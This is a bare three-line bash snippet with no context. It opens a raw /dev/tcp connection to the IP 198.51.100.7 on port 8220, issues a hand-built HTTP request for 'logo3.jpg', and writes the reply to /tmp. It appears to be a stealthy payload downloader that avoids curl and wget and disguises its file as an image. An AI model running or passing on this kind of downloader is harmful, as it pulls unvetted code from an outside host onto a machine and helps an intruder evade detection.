exec 3<>/dev/tcp/198.51.100.7/8220
printf "GET /logo3.jpg HTTP/1.0\r\n\r\n" >&3
cat <&3 > /tmp/logo3.jpg
